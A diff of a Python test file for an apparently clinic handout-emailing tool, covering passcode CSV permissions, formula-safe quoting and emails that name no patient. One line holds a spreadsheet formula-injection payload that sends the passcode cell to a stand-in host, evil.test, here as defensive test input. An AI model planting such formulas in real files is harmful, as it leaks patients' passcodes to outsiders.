@@ -7,20 +7,20 @@ import csv
 import io
 import json
 import re
-import shutil
+import stat
 import subprocess
 import time
 import zipfile
-from collections.abc import Iterator
 from email.message import EmailMessage
 from pathlib import Path
 from typing import Any
 
 import pypdfium2 as pdfium  # type: ignore[import-untyped]
 import pytest
+from canary import PATIENT, patient_input
 from conftest import cli, edit, line_of
 from pypdf import PdfReader
-from servers import PASSWORD, USER, SmtpServer
+from servers import ALDER, SmtpServer, use_server
 
 from handoutgen.compose import Request
 from handoutgen.errors import Problem
@@ -32,9 +32,7 @@ from handoutgen.web.batch import Job
 pytestmark = [pytest.mark.slow, pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS",
                                         "ignore:Session.login_data is deprecated")]
 
-ALDER = "assets/clinics/alder/clinic.yaml"
-BIRCH = "assets/clinics/birch/clinic.yaml"
-NAME, ADDRESS = "Ana Lima", "ana.lima@patients.test"
+NAME, ADDRESS = PATIENT, "ana.lima@patients.test"
 # A name that a spreadsheet would run as a formula, sending the cell two columns on (the passcode) away.
 FORMULA = '=HYPERLINK("http://evil.test/?"&E2,"Ana")'
 
@@ -44,26 +42,6 @@ def one(name: str = NAME, *more: str) -> tuple[str, ...]:
     return ("email", "--clinic", "alder", "--treatment", "needling", "--kind", "consent", "--kind",
             "aftercare", f"--patient-name={name}", "--field", "appointment_date=2026-12-01", "--to",
             ADDRESS, "--appointment-id", "A1001", *more)
-
-
-def use_server(lib: Path, server: SmtpServer, clinic: str = ALDER, settings: str = "") -> None:
-    """Point a clinic's mail settings at the test server and trust its certificate."""
-    path = lib / clinic
-    text = path.read_text(encoding="utf-8").split("\nmail:\n")[0].split("\nprinter:")[0].rstrip("\n")
-    path.write_text(f"{text}\nmail:\n  sender: handouts@clinic.test\n  smtp:\n    host: 127.0.0.1\n"
-                    f"    port: {server.port}\n    security: starttls\n    user: {USER}\n"
-                    "    password_env: TEST_SMTP_PASSWORD\n    ca_file: smtp-cert.pem\n"
-                    f"  retry_delay_seconds: 0.01\n{settings}", encoding="utf-8")
-    shutil.copy(server.cert, path.parent / "smtp-cert.pem")
-
-
-@pytest.fixture
-def smtp(tmp_path: Path, lib: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[SmtpServer]:
-    monkeypatch.setenv("TEST_SMTP_PASSWORD", PASSWORD)
-    with SmtpServer(tmp_path) as server:
-        use_server(lib, server)
-        use_server(lib, server, BIRCH)
-        yield server
 
 
 def csv_rows(path: Path) -> list[list[str]]:
@@ -100,6 +78,19 @@ def test_a_name_that_starts_a_formula_is_text_in_the_passcode_list(lib: Path, tm
     assert row[header.index("appointment_id")] == "A1001"
     raw = (out / "passcodes.csv").read_text(encoding="utf-8")
     assert raw.splitlines()[0].startswith('"appointment_id","appointment_date"')  # every cell quoted
+
+
+def test_a_passcode_list_others_could_read_is_made_private_before_it_gets_a_row(
+        lib: Path, tmp_path: Path, smtp: SmtpServer) -> None:
+    out = tmp_path / "mail"
+    out.mkdir()
+    restored = out / "passcodes.csv"  # as a copy or a restored backup may come back
+    restored.write_text('"appointment_id","appointment_date","appointment_time","patient_name","passcode",'
+                        '"message_id","created"\r\n', encoding="utf-8")
+    restored.chmod(0o644)
+    assert cli(lib, *one(), "--out", str(out)).code == 0
+    assert stat.S_IMODE(restored.stat().st_mode) == 0o600
+    assert len(csv_rows(restored)) == 2
 
 
 def test_the_passcode_list_reads_back_what_it_wrote(tmp_path: Path) -> None:
@@ -144,7 +135,7 @@ def use_secret(monkeypatch: pytest.MonkeyPatch, path: Path) -> Path:
 def hashes(lib: Path, out: Path, smtp: SmtpServer) -> tuple[str, str, str, str]:
     """Message-ID, ledger key, a batch document's manifest `inputs` and a built file's name."""
     assert cli(lib, *one(), "--out", str(out / "mail")).code == 0
-    day = out / "day.csv"
+    day = patient_input(out / "day.csv")
     day.write_text(f"appointment_id,clinic,patient_name,treatment,documents,date,time,practitioner\n"
                    f"B1,alder,{NAME},peel,aftercare,2026-12-01,10:30,\n", encoding="utf-8")
     assert cli(lib, "batch", "--appointments", str(day), "--out", str(out / "batch")).code == 0
@@ -236,6 +227,7 @@ def legacy_ledger(lib: Path, out: Path, status: str) -> str:
     (out / "passcodes.csv").write_text("appointment_id,appointment_date,appointment_time,patient_name,"
                                        f"passcode,message_id,created\r\nA1001,2026-12-01,,{NAME},"
                                        f"K7QM-4XT9-BR2D,{mid},2026-11-30T10:00:00+00:00\r\n")
+    (out / "passcodes.csv").chmod(0o600)  # as those versions made it
     return mid
 
 
@@ -355,7 +347,7 @@ def test_by_default_the_email_names_no_patient_treatment_or_date(lib: Path, tmp_
     assert sorted(files) == ["alder-aftercare.pdf", "alder-consent.pdf"]  # no treatment in the names
     headers = [f"{k}: {v}" for k, v in message.items() if k != "Date"]  # the Date is when it was sent
     clear = "\n".join([*headers, body(message), body(message, "html")])
-    for detail in (NAME, "Ana", "Lima", "Needling", "needling", "December", "2026", "10:30"):
+    for detail in (NAME, *NAME.split(), "Needling", "needling", "December", "2026", "10:30"):
         assert detail not in clear
     for detail in (NAME, "Needling", "needling", "December"):  # long enough not to turn up by chance
         assert detail.encode() not in b"".join(files.values())  # the PDF's metadata is encrypted too
@@ -367,15 +359,15 @@ def test_by_default_the_email_names_no_patient_treatment_or_date(lib: Path, tmp_
 
 
 def test_a_clinic_may_choose_a_detailed_body(lib: Path, tmp_path: Path, smtp: SmtpServer) -> None:
-    use_server(lib, smtp, settings="  body: detailed\n")
+    use_server(lib, smtp, body="detailed")
     assert cli(lib, *one(), *NEXT, "--out", str(tmp_path / "mail")).code == 0
     message = smtp.messages[0].message
     assert message["Subject"] == "Alder Test Clinic: your Needling documents"
     text = body(message)
-    assert text.startswith("Hello Ana Lima,\r\n\r\nYour Needling appointment is on 1 December 2026.\r\n"
+    assert text.startswith(f"Hello {NAME},\r\n\r\nYour Needling appointment is on 1 December 2026.\r\n"
                            "\r\nWe have attached these documents for you:\r\n- Consent to needling\r\n"
                            "- Aftercare after needling\r\n")
-    assert "Hello Ana Lima," in body(message, "html") and "type the 16 digits" in text
+    assert f"Hello {NAME}," in body(message, "html") and "type the 16 digits" in text
     assert sorted(pdfs(message)) == ["needling-aftercare.pdf", "needling-consent.pdf"]
 
 
